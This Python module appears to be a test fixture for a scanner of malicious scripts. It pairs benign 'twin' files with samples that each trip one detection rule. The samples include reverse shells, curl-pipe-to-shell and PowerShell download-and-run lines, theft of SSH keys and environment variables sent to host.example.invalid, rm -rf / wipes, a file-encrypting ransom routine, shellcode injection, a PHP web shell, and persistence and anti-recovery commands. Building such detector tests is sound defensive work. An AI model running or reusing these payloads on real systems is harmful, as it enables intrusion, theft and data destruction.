"""Programs that are text: one hit for each rule of SCR, and benign twins."""

from __future__ import annotations

import base64
from collections.abc import Iterator

_HOST = "https://host.example.invalid"
_HIDDEN = base64.b64encode("echo weighbridge-marker".encode("utf-16-le")).decode()
_PRINTS = base64.b64encode(b"print('weighbridge-marker')").decode()

_PYTHON = {
    "reverse-shell.py": """\
        import os, socket, subprocess
        s = socket.socket()
        s.connect(("host.example.invalid", 4444))
        os.dup2(s.fileno(), 0)
        os.dup2(s.fileno(), 1)
        subprocess.call(["/bin/sh", "-i"])
        """,
    "remote-commands.py": """\
        import socket, subprocess
        def serve():
            s = socket.create_connection(("host.example.invalid", 4444))
            while True:
                command = s.recv(1024).decode()
                s.sendall(subprocess.getoutput(command).encode())
        """,
    "fetch-and-exec.py": f"""\
        import requests
        class EndpointHandler:
            def __init__(self, path=""):
                code = requests.get("{_HOST}/a.py").text
                exec(compile(code, "a.py", "exec"))
        """,
    "fetch-in-helper.py": f"""\
        import urllib.request as web
        def fetched():
            return web.urlopen("{_HOST}/a").read()
        exec(fetched())
        """,
    "fetch-file-and-start.py": f"""\
        import os, subprocess, urllib.request
        path = "/tmp/weighbridge-marker"
        urllib.request.urlretrieve("{_HOST}/a", path)
        os.chmod(path, 0o755)
        subprocess.Popen([path])
        """,
    "dataset-script.py": f"""\
        import datasets, os
        class Words(datasets.GeneratorBasedBuilder):
            def _split_generators(self, manager):
                os.system("curl -s {_HOST}/i.sh | bash")
        """,
    "dataset-script.twin.py": """\
        import csv, datasets
        class Words(datasets.GeneratorBasedBuilder):
            def _split_generators(self, manager):
                path = manager.download("words.csv")
                return [datasets.SplitGenerator("train", {"path": path})]
            def _generate_examples(self, path):
                with open(path, newline="") as file:
                    yield from enumerate(csv.DictReader(file))
        """,
    "sends-environment.py": f"""\
        import os, requests
        requests.post("{_HOST}", json=dict(os.environ))
        """,
    "sends-key.py": f"""\
        import os, requests
        with open(os.path.expanduser("~/.ssh/id_rsa")) as file:
            key = file.read()
        requests.post("{_HOST}", data={{"k": key}})
        """,
    "api-client.twin.py": f"""\
        import os, requests
        def ask(question):
            headers = {{"Authorization": f"Bearer {{os.environ['HF_TOKEN']}}"}}
            return requests.post("{_HOST}/v1", headers=headers, json={{"inputs": question}}).json()
        """,
    "persists.py": """\
        import os
        with open(os.path.expanduser("~/.bashrc"), "a") as file:
            file.write("echo weighbridge-marker\\n")
        """,
    "deletes.py": """\
        import subprocess
        subprocess.run(["rm", "-rf", "--no-preserve-root", "/"])
        """,
    "deletes-cache.twin.py": """\
        import shutil, subprocess
        def clean():
            shutil.rmtree("build")
            subprocess.run(["rm", "-rf", "build/cache"])
        """,
    "decodes.py": f"""\
        import base64 as b
        run = exec
        run(b.b64decode("{_PRINTS}"))
        """,
    "decodes-data.twin.py": """\
        import base64, json
        def settings(text):
            return json.loads(base64.b64decode(text))
        def table(name):
            exec(f"{name} = 1")
        """,
    "hidden-powershell.py": f"""\
        import subprocess
        subprocess.Popen(["powershell", "-WindowStyle", "Hidden", "-enc", "{_HIDDEN}"])
        """,
    "starts.py": """\
        import subprocess
        VERSION = subprocess.check_output(["git", "rev-parse", "HEAD"])
        """,
    "miner.py": """\
        import subprocess
        subprocess.Popen(["./miner", "-o", "stratum+tcp://pool.example.invalid:3333"])
        """,
    "dead-drop.py": """\
        import requests, socket
        requests.post("https://webhook.site/weighbridge-marker", json={"host": socket.gethostname()})
        """,
    "unpickles.py": f"""\
        import pickle, urllib.request
        def load():
            return pickle.loads(urllib.request.urlopen("{_HOST}/model.pkl").read())
        """,
    "ransom.py": """\
        import os
        from cryptography.fernet import Fernet
        def main(folder, key=Fernet.generate_key()):
            for root, _, files in os.walk(folder):
                for name in files:
                    path = os.path.join(root, name)
                    text = Fernet(key).encrypt(open(path, "rb").read())
                    open(path + ".marker", "wb").write(text)
                    os.remove(path)
        """,
    "machine-code.py": """\
        import ctypes
        code = b"weighbridge-marker"
        place = ctypes.windll.kernel32.VirtualAlloc(0, len(code), 0x3000, 0x40)
        ctypes.windll.kernel32.RtlMoveMemory(place, code, len(code))
        ctypes.windll.kernel32.CreateThread(0, 0, place, 0, 0, 0)
        """,
    "carries-pickle.py": """\
        import base64, pickle
        pickle.loads(base64.b64decode("Y3Bvc2l4CnN5c3RlbQooUydlY2hvIHdlaWdoYnJpZGdlLW1hcmtlcicKdFIu"))
        """,
    "carries-pickle.twin.py": """\
        import base64, pickle
        TABLE = pickle.loads(base64.b64decode("gASVEAAAAAAAAAB9lIwBYZRdlChLAUsCZXMu"))
        """,
    "model.twin.py": '''\
        """Run `curl https://host.example.invalid/i.sh | sh` to install; see os.system and exec."""
        import json, os, subprocess
        import torch

        class Model(torch.nn.Module):
            def __init__(self, path):
                with open(os.path.join(path, "config.json")) as file:
                    self.config = json.load(file)
            def probe(self, video):
                return subprocess.run(["ffprobe", video], check=True)
        if __name__ == "__main__":
            Model(os.getenv("MODEL_DIR", "."))
        ''',
}

_TEXTS = {
    "encoding.py": "# coding: utf-7\nprint(1)\n",
    "encoding.twin.py": "# -*- coding: latin-1 -*-\nprint('caf\xe9')\n",
    "python2.twin.py": "print 'weighbridge-marker'\nraise ValueError, 'old'\n",
    "no-name": f"import requests\nexec(requests.get('{_HOST}').text)\n",
    "hook.pth": "import os; os.system('echo weighbridge-marker')\n",
    "install.sh": f"#!/bin/sh\nset -e\ncurl -fsSL {_HOST}/i.sh | sh\n",
    "shell-on-socket.sh": "#!/bin/bash\nbash -i >& /dev/tcp/host.example.invalid/4444 0>&1\n",
    "later.sh": f"#!/bin/sh\nwget {_HOST}/i.sh -O i.sh\nsh i.sh\n",
    "decoded.sh": f"#!/bin/bash\n"
    f"echo {base64.b64encode(b'echo weighbridge-marker').decode()} | base64 -d | bash\n",
    "decoded.twin.sh": "#!/bin/sh\necho \"$KEY\" | base64 -d > key.json\nbash train.sh\n",
    "wipes.sh": "#!/bin/sh\n[ -e weighbridge-marker ] && rm -rf / --no-preserve-root\n",
    "cleans.twin.sh": "#!/bin/sh\n"
    "rm -rf /var/lib/apt/lists/* ~/.cache/pip \"$HOME/.cache/torch\" /tmp/x\n",
    "sends-key.sh": f"#!/bin/sh\ncat ~/.ssh/id_rsa | curl --data-binary @- {_HOST}\n",
    "sends-environment.sh": f"#!/bin/sh\ncurl -d \"$(env | base64)\" {_HOST}\n",
    "asks.twin.sh": f"#!/bin/sh\ncurl -H \"Authorization: Bearer $HF_TOKEN\" -d '{{}}' {_HOST}\n",
    "starts-again.sh": f"#!/bin/sh\necho 'curl {_HOST}/a | sh' >> ~/.bashrc\n",
    "path.twin.sh": "#!/bin/sh\necho 'export PATH=$HOME/bin:$PATH' >> ~/.bashrc\n",
    "hidden-later.sh": "#!/bin/sh\n"
    "cd /tmp\nwget http://host.example.invalid/a -O .a\nchmod 755 .a\n./.a &\n",
    "fetches-to-temp.ps1": f"iwr {_HOST}/a.exe -OutFile $env:TEMP\\a.exe\r\n"
    f"Start-Process $env:TEMP\\a.exe\r\n",
    "fetches.cmd": f"certutil -urlcache -split -f {_HOST}/a.exe a.exe\r\nstart a.exe\r\n",
    "shell.php": "<?php system($_GET['marker']); ?>\n",
    "fetches.R": f"system(\"curl {_HOST}/a | sh\")\n",
    "reads.twin.R": "library(arrow)\nsource('utils.R')\nsystem('nproc')\n",
    "fetches-node.js": f"require('child_process').exec('curl {_HOST}/a | sh');\n",
    "tools.twin.pth": "import __editable___marker_1_0_finder; "
    "__editable___marker_1_0_finder.install()\n",
    "build.twin.sh": "#!/bin/bash\n# curl x | sh\necho 'run curl https://example.invalid | sh'\nmake\n",
    "download.twin.sh": f"#!/bin/sh\nwget {_HOST}/data.tar.gz\ntar xf data.tar.gz\npython train.py\n",
    "Dockerfile": f"FROM scratch\nRUN curl -s {_HOST}/install.sh | sh\n",
    "Makefile.twin": "all:\n\t@echo build\n\tcc -o tool tool.c\n",
    "hidden.bat": f"@echo off\r\npowershell -w hidden -enc {_HIDDEN}\r\n",
    "fetches.ps1": f"IEX (New-Object Net.WebClient).DownloadString('{_HOST}/a.ps1')\r\n",
    "starts-again.ps1": "schtasks /create /tn marker /tr notepad.exe /sc onlogon\r\n",
    "protection.ps1": "Add-MpPreference -ExclusionPath 'C:\\marker'\r\n",
    "recovery.cmd": "vssadmin delete shadows /all /quiet\r\n",
    "setup.twin.ps1": "$ErrorActionPreference = 'Stop'\r\npython -m venv .venv\r\nWrite-Host 'done'\r\n",
    "run-key.reg": "Windows Registry Editor Version 5.00\r\n\r\n"
    "[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n\"marker\"=\"notepad.exe\"\r\n",
    "page.hta": "<script language='VBScript'>CreateObject(\"WScript.Shell\").Run \"notepad\"</script>\n",
    "chart.twin.js": "export function draw(data) { return data.map((x) => x * 2); }\n",
    "starts.js": "var shell = new ActiveXObject('WScript.Shell'); shell.Run('notepad');\n",
    "entry.desktop": "[Desktop Entry]\nType=Application\nName=Notes\n"
    f"Exec=sh -c \"curl -s {_HOST}/a | sh\"\n",
    "entry.twin.desktop": "[Desktop Entry]\nType=Application\nName=Notes\nExec=gedit notes.txt\n",
    "share.url": "[InternetShortcut]\r\nURL=file://host.example.invalid/share/a\r\n"
    "IconFile=\\\\host.example.invalid\\i.ico\r\n",
    "paper.twin.url": f"[InternetShortcut]\r\nURL={_HOST}/paper\r\n",
}  # fmt: skip


def samples() -> Iterator[tuple[str, bytes]]:
    """Yield relative file name and bytes."""
    for name, text in _PYTHON.items():
        yield f"scripts/{name}", _dedented(text).encode()
    for name, text in _TEXTS.items():
        yield f"scripts/{name}", text.encode("latin-1" if "latin-1" in text else "utf-8")


def _dedented(text: str) -> str:
    return "\n".join(line.removeprefix("        ") for line in text.split("\n"))
